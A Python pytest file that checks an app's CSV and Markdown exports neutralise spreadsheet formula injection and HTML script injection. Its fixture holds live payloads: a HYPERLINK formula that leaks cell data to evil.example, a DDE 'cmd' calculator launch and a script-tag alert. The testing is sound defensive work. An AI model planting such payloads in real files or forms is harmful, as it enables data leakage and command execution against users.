"""Exports of an analysis whose text is hostile, through the real API: the CSV must not run in a spreadsheet and
the Markdown must not carry HTML a renderer would pass through."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from oppscope.analyses.export import spreadsheet_safe
from tests.examples import OPPORTUNITY

HOSTILE: dict[str, Any] = {
    **OPPORTUNITY,
    "customer_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "opportunity_name": "<script>alert('x')</script> migration",
    "description": "+cmd|' /C calc'!A0",
    "industry": "@SUM(1+1)*cmd",
    "partner_name": "-2+3",
    "migration_phase": "\tTabbed",
}


@pytest.fixture(scope="module")
def analysis_id(module_server: str) -> str:
    with httpx.Client(base_url=module_server, timeout=120) as http:
        response = http.post("/api/v1/analyses", json=HOSTILE)
    assert response.status_code == 201, response.text
    identifier: str = response.json()["id"]
    return identifier


def _export(client: httpx.Client, analysis_id: str, fmt: str) -> str:
    response = client.get(f"/api/v1/analyses/{analysis_id}/export", params={"format": fmt})
    assert response.status_code == 200, response.text[:300]
    return response.text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_like_a_formula(client: httpx.Client, analysis_id: str) -> None:
    rows = list(csv.reader(io.StringIO(_export(client, analysis_id, "csv"))))
    risky = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(_number(cell) for cell in risky), risky  # a negative number is a number, not a formula
    values = {row[2]: row[3] for row in rows if row[0] == "input"}
    # The text is kept whole, behind the apostrophe spreadsheets read as "this is text".
    assert values["customer_name"] == "'" + HOSTILE["customer_name"]
    assert values["description"] == "'" + HOSTILE["description"]
    assert values["industry"] == "'" + HOSTILE["industry"]
    assert values["partner_name"] == "'-2+3"
    assert values["region"] == HOSTILE["region"]


def test_spreadsheet_safe_leaves_numbers_and_plain_text() -> None:
    assert spreadsheet_safe(-12.5) == -12.5 and spreadsheet_safe("Acme") == "Acme"
    assert spreadsheet_safe("\rx") == "'\rx" and spreadsheet_safe("") == ""


def test_markdown_carries_no_html(client: httpx.Client, analysis_id: str) -> None:
    markdown = _export(client, analysis_id, "md")
    assert "<" not in markdown and ">" not in markdown
    heading = markdown.splitlines()[0]
    assert heading.startswith("# &lt;script&gt;alert('x')&lt;/script&gt; migration — ")
    assert "=HYPERLINK(" in heading  # as text: Markdown runs no formulas
